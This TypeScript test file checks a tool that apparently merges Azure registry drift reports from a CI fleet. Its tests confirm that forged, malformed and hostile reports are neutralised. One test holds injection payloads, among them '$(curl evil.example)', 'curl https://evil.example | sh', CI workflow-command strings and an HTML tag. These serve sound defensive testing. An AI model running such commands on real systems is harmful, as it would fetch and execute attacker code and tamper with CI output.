import { spawnSync } from 'node:child_process'
import { describe, expect } from 'vitest'
import type { ReportJson } from 'report-document'
import { beginFleet, downloaded, merge, type Merged } from '../../support/fleet.js'
import { annotationTitles } from '../../support/reading.js'
import { it, type StepEnd } from '../../support/scenario.js'

// What a merge makes of its reports is proven in packages/fleet and packages/report-document, with files and outputs. Here are the reports that checks really
// leave; how nights follow each other is in random-nights.long.test.ts.

const reportIn = ({ reportFile }: Pick<StepEnd, 'reportFile'>): ReportJson => JSON.parse(reportFile) as ReportJson

/** A fleet of two that both drift, and the reports that its jobs have left. */
async function beginWith(begin: Parameters<typeof beginFleet>[0]) {
  const fleet = await beginFleet(begin)
  const ends = (await fleet.checkAll()) as [StepEnd, StepEnd]
  const mergeAll = (reports: string[], inputs = {}): Promise<Merged> =>
    merge(fleet.scenario, { reports: downloaded(reports), 'drift-issue': 'true', ...inputs })
  return { ...fleet, ends, mergeAll, issues: fleet.scenario.world.github.issues }
}

describe('the reports of a fleet', () => {
  it('become one summary, report and issue, in which clusters of one name are told apart', async ({ begin }) => {
    const { ends, mergeAll, issues, fleet } = await beginWith(begin)
    expect(ends[0].report.run).toEqual({
      id: '1658821493',
      number: 42,
      attempt: 1,
      startedAt: expect.stringMatching(/^\d{4}-.*Z$/) as string,
    })
    const end = await mergeAll(
      ends.map(({ reportFile }) => reportFile),
      { fleet },
    )
    expect(end).toMatchObject({ exitCode: 1, stderr: '', outputs: { drift: 'true', 'error-code': 'DRIFT' } })
    const report = reportIn(end)
    expect(report).toMatchObject({ drift: true, pairs: [{}, {}], jobs: [{ error: null }, { error: null }] })
    expect(report.searched).toHaveLength(2)
    expect(annotationTitles(end).sort()).toEqual([
      expect.stringContaining('(rg-shop, '),
      expect.stringContaining('(rg-test, '),
    ])
    expect(issues).toMatchObject([{ state: 'open' }])
  })

  it('do not heal a drift by an attempt that has not been, nor by a malformed one', async ({ begin }) => {
    const { ends, mergeAll, issues } = await beginWith(begin)
    await mergeAll(ends.map(({ reportFile }) => reportFile))
    expect(issues).toMatchObject([{ state: 'open' }])
    const [{ report }] = ends
    const pairs = report.pairs.map(pair => ({ ...pair, status: 'attached', grantedBy: 'direct', lacks: [] }))
    const healed = { ...report, drift: false, attached: true, ready: true, pairs, plan: [] }
    const forged = JSON.stringify({ ...healed, run: { ...report.run, attempt: 7 } })
    const deep = ends[1].reportFile.replace(/"entry":\{/, `$&"x":${'['.repeat(20_000)}${']'.repeat(20_000)},`)
    const end = await mergeAll([ends[0].reportFile, forged, deep, '\0'])
    expect(end).toMatchObject({
      exitCode: 1,
      stderr: '',
      outputs: { drift: 'true', ready: 'false', attached: 'false' },
    })
    const problems = reportIn(end).jobs?.flatMap(({ name, problem }) => (problem === null ? [] : name))
    expect(problems?.sort()).toEqual([1, 2, 3].map(at => `drift-${at}/report.json`))
    expect(issues).toMatchObject([{ state: 'open' }])
  })

  it('are data: nothing in them acts as a command, leaves its fence or mentions anybody', async ({ begin }) => {
    const { ends, mergeAll, issues } = await beginWith(begin)
    const evil =
      '\n```\n::error::pwned\n##[error]x\n@octocat #1 <img src=x> $(curl evil.example) `id` https://evil.example'
    const [{ report: first }] = ends
    const [pair, planned] = [first.pairs[0], first.plan[0]]
    const fix = { text: evil, commands: ['curl https://evil.example | sh'] }
    const lost = { target: 'gone', asked: { target: 'gone', registry: 'contosoacr' } }
    const denied = { code: 'PULL_DENIED', cause: null, quote: null, azure: null }
    const report = {
      ...first,
      pairs: [
        { ...pair, lacks: [{ kind: 'role', role: evil, group: null, message: evil }] },
        { ...pair, ...lost, error: { ...denied, message: evil, reason: evil, fix } },
      ],
      plan: [{ ...planned, role: `AcrPull'; ${evil}`, reason: evil }, planned],
      findings: [{ code: 'EXCESS_ROLE', severity: 'warning', subject: 'x', message: evil, fix }],
    }
    const end = await mergeAll([JSON.stringify(report)])
    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    for (const text of [end.summary, issues[0]?.body ?? '']) {
      expect(text).not.toMatch(/<img|@octocat|#1 &lt;|\| sh/)
      expect(text.match(/^`{3,}/gm)?.length).toBe((text.match(/^`{3,}\w*$/gm) ?? []).length)
    }
    expect(end.annotations).toHaveLength(3)
    expect(end.stdout).not.toMatch(/^\s*::error::pwned/m)
    expect(end.log).not.toContain('##[')
    // Each block of commands is valid bash and runs nothing else.
    const blocks = [...end.summary.matchAll(/^`{3,}sh\n([^]*?)^`{3,}$/gm)].map(([, commands = '']) => commands)
    expect(blocks).not.toEqual([])
    for (const commands of blocks) {
      const shown = spawnSync('bash', ['--norc', '-c', `az() { printf '%s\\n' "$@"; }\n${commands}`], {
        encoding: 'utf8',
      })
      expect(shown.stderr).toBe('')
    }
  })

  it.for<[string, Record<string, string>, string | undefined]>([
    ['there is none', {}, undefined],
    ["the fleet isn't JSON", { fleet: 'a, b' }, undefined],
    ['one is too long', {}, ' '.repeat(100_000_001)],
  ])('are an input problem if %s, and all outputs are set', async ([, inputs, file], { begin }) => {
    const end = await merge(await begin(), { ...inputs, reports: downloaded([file]) })
    expect(end).toMatchObject({ exitCode: 1, stderr: '', outputs: { drift: 'false', 'error-code': 'INVALID_INPUT' } })
    for (const text of [end.summary, end.reportFile]) expect(text).not.toBe('')
  })
})
